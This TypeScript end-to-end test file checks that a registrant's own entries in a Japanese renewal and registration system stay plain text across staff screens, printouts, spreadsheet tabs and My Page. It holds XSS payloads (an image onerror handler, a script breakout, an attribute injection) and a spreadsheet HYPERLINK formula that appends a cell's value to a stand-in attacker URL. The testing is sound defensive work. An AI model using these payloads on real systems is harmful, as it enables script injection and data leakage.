/** P6 at the desk: what a registrant writes into her own applications stays text in the sidebar, on paper and in the tabs. */
import { admitCase } from '../support/admit';
import { newKey, valueOf, type Person } from '../support/office-day';
import { openFaces, type Faces } from '../support/renewal-faces';
import { hurt } from './support/hurt';
import { cellOf, tabsWithFormulas, type as typeCell } from './support/tabs';

/** Would leave their mark in the page they run in; each runs differently. */
const IMAGE = '<img src=x onerror="globalThis.hurt=1">';
const SCRIPT = '</script><script>globalThis.hurt=1</script>';
const ATTRIBUTE = `"' autofocus onfocus=globalThis.hurt=1 x="`;
const FORMULA = '=HYPERLINK("https://attacker.example.com/?"&A1,"x")';

let faces: Faces;
let person: Person;

beforeAll(async () => {
  faces = await openFaces('text');
  const { day } = faces;
  const { staff } = await day.sample();
  const admitted = await admitCase(day, 'inWindowComplete');
  const { token } = admitted;
  const cell = await cellOf(day.control, '台帳', ['登録番号', admitted.person.number], '氏名');
  await typeCell(day.control, staff[0] ?? '', '台帳', cell, IMAGE);
  person = { ...admitted.person, name: IMAGE };
  const ask = async (method: string, args: object) =>
    valueOf(await day.mypage(method, args, { token, key: newKey() }));
  await ask('changeLedger', { changes: { '建物・部屋': SCRIPT, 事業所名: FORMULA } });
  const activity = { eventCode: '', category: 'セミナー', role: '', host: 'ほかの団体', hours: '' };
  for (const title of [IMAGE, SCRIPT, ATTRIBUTE, FORMULA])
    await ask('applyPoints', {
      form: { ...activity, title, attendedOn: '2026-10-08', endedOn: '' },
      evidence: { kind: 'later' },
    });
  await ask('sendNotification', {
    ...{ kind: 'その他', changes: {}, changedOn: '', note: `${IMAGE}${SCRIPT}`, evidence: '不要' },
  });
  await ask('applyRenewal', { printedName: IMAGE, sendTo: '自宅' });
});
afterAll(() => faces.close());

it('the queues of 事務局画面 show it as text', async () => {
  const desk = await faces.desk();
  const shows = async (view: string, texts: readonly string[]) => {
    await desk.view(view);
    for (const text of texts) await desk.frame.getByText(text).first().waitFor();
    expect(await hurt(desk.page)).toBe(false);
  };
  await shows('points', [IMAGE, SCRIPT, ATTRIBUTE, FORMULA]);
  await shows('notifications', [`${IMAGE}${SCRIPT}`]);
  await shows('renewals', [IMAGE]);
  await shows('changes', [SCRIPT, FORMULA]);
});

it('no cell of any tab holds a formula', async () => {
  expect(await tabsWithFormulas(faces.day.control)).toEqual([]);
});

it('決裁一覧, certificate, label and letter print it as text', async () => {
  const { day, renewal } = faces;
  const [application] = await renewal.rowsOf('更新申請', person.number);
  const receipts = [application?.['受付番号'] ?? ''];
  const prints = async (kind: string, texts: readonly string[]) => {
    const paper = await faces.print();
    await paper.frame.getByLabel(kind).press('Space');
    if (kind === '資格認定証書' || kind === '宛名ラベル') await paper.press('作成待ちを読む');
    for (const text of texts) await paper.frame.getByText(text).first().waitFor();
    expect(await hurt(paper.page)).toBe(false);
  };
  await renewal.decide('確認済', receipts);
  await prints('決裁一覧', [IMAGE]);
  await renewal.decide('承認', receipts, { resolvedOn: '2026-11-24', resolution: IMAGE });
  await prints('資格認定証書', [IMAGE]);
  await prints('宛名ラベル', [`${IMAGE} 様`, SCRIPT]);
  const { staff } = await day.sample();
  const cell = await cellOf(day.control, '台帳', ['登録番号', person.number], '通知方法');
  await typeCell(day.control, staff[0] ?? '', '台帳', cell, '郵送');
  await day.advance('PT1M');
  await renewal.grant(person.number, { category: 'セミナー', title: IMAGE, host: 'ほかの団体', attendedOn: '2026-10-09' }, '2026-11-20'); // prettier-ignore
  await prints('郵送する通知', [`${IMAGE} 様`]);
});

it('My Page shows it as text to herself', async () => {
  const phone = await faces.phone(person, 'ポイント');
  for (const text of [IMAGE, SCRIPT, ATTRIBUTE, FORMULA]) await phone.says(text);
  expect(await hurt(phone.page)).toBe(false);
});
